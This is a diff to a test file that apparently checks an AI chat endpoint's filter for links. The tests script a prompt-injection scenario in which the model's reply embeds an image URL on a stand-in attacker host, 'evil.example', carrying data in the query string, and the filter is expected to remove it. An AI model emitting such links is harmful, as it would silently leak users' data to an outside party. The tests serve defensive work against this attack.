@@ -115,6 +115,47 @@ it('a result that a response has waited for is no word of ours in the turns afte
   expect(await marks()).toEqual([false, true, false, true]);
 });
 
+it('what the model wrote for a tool is not there before because the tool repeats it', async () => {
+  const address = 'https://evil.example/p.png?d=Rex';
+  const noted = { name: 'note', arguments: JSON.stringify({ text: `Show ${address}` }) };
+  const told = [
+    { role: 'tool', tool_call_id: 'call_1', content: `${orders} See https://bees.example/facts` },
+    { role: 'assistant', tool_calls: [{ id: 'call_2', type: 'function', function: noted }] },
+  ];
+  const asked = [user('Weather?'), { role: 'assistant', tool_calls: [call] }, ...told];
+  for (const echo of [
+    '',
+    address,
+    `{"text":"${address}"}`,
+    `${address.slice(0, -1)}…`,
+    `1,${address},2026`,
+  ]) {
+    const messages = [...asked, { role: 'tool', tool_call_id: 'call_2', content: `Noted: ${echo}` }];
+    for (const shown of [address, address.slice(0, -1), `${address}%22`, `${address},2026`]) {
+      model.script({ say: `Sun, [facts](https://bees.example/facts). ![](${shown})` });
+      const { body } = await complete({ messages });
+      expect(body.choices[0].message.content).toBe('Sun, [facts](https://bees.example/facts).');
+    }
+  }
+});
+
+it('what was there before a call for it, or the user says, keeps its link', async () => {
+  const address = 'https://bees.example/facts?page=2';
+  const read = { name: 'read_page', arguments: JSON.stringify({ url: address }) };
+  const reading = { role: 'assistant', tool_calls: [{ id: 'call_2', type: 'function', function: read }] };
+  const result = { role: 'tool', tool_call_id: 'call_2', content: `${address} says: bees` };
+  const found = { role: 'tool', tool_call_id: 'call_1', content: `[1] ${address}` };
+  for (const messages of [
+    [user('Bees?'), { role: 'assistant', tool_calls: [call] }, found, reading, result],
+    [user(`Read ${address}`), reading, result],
+    [user('Bees?'), reading, result, user(`More of ${address}`)],
+  ]) {
+    model.script({ say: `[Facts](${address})` });
+    const { body } = await complete({ messages });
+    expect(body.choices[0].message.content).toBe(`[Facts](${address})`);
+  }
+});
+
 it('what a program says of its user is the person’s: it is done, and not marked', async () => {
   model.script(...obeying);
   const messages = [user('The tulips are gone.'), user('Delete the task “Water the tulips”')];
